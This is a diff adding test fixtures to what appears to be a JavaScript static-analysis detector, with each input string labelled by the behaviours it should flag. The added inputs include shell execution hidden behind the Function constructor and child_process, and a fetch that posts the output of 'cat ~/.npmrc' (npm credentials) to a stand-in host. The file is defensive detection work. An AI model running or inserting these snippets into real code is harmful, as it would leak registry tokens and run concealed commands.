@@ -750,6 +750,19 @@ table('JavaScript: what comes in, what was written', [
 const WORDS = ['a1', 'b2', 'c3', 'd4', 'e5', 'f6', 'g7', 'child_process', 'exec', 'whoami'];
 const UNDER_7 = (text: string): string => Buffer.from(Buffer.from(text).map((c) => c ^ 7)).toString('base64');
 
+table('JavaScript: parameters of a function made from text', [
+  [
+    'of any name',
+    "Function('r', 'p', 'r(p[0])[p[1]](\"whoami\")')(require, ['child_process', 'exec'])",
+    'evaluate | run-shell | read-user-name',
+  ],
+  [
+    'of the names that are there anyway',
+    "new Function('require', 'process', 'require(\"child_process\").exec(\"whoami\")')(require, process)",
+    'evaluate | run-shell | read-user-name',
+  ],
+]);
+
 table('JavaScript: decoders asked often', [
   [
     'more texts of a hexadecimal decoder than a function that acts is walked for',
@@ -799,6 +812,16 @@ table('JavaScript: commands', [
     'one program here, another there',
     `${CP}.spawn(process.platform === 'win32' ? 'tasklist' : 'whoami', ['-a'])`,
     'read-process-list | read-user-name',
+  ],
+  [
+    'the output of a command that reads secrets',
+    `fetch('https://host.invalid', { method: 'POST', body: ${CP}.execSync('cat ~/.npmrc').toString() })`,
+    'read-registry-token | http-send carries:credentials carries:output',
+  ],
+  [
+    'the output of another command',
+    `fetch('https://host.invalid', { method: 'POST', body: ${CP}.execSync('git rev-parse HEAD').toString() })`,
+    'http-send carries:output | !read-registry-token',
   ],
   [
     'other packages, named by a folder',
